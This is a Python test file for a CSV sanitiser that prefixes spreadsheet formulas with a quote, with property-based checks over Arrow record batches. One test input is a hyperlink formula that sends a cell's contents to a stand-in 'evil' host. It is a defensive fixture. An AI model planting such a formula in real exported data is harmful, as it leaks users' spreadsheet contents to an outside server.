"""What a spreadsheet would run is text in every CSV of ours."""

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kdissect.tables.spreadsheet import csv_batch, csv_text


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
)
def test_formulas_become_text(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["orders", "", " =1", "a=b", "'=1", "1.5"])
def test_other_text_stays(text):
    assert csv_text(text) == text


@given(st.lists(st.one_of(st.none(), st.text(), st.sampled_from(["=1", "@x", "\r\n", "-"]))))
def test_batches_like_single_texts_and_numbers_untouched(texts):
    batch = pa.record_batch(
        {"name": pa.array(texts, pa.string()), "offset": pa.array([-1] * len(texts), pa.int64())}
    )
    found = csv_batch(batch)
    assert found["name"].to_pylist() == [None if text is None else csv_text(text) for text in texts]
    assert found["offset"].equals(batch["offset"])
    assert found.schema == batch.schema
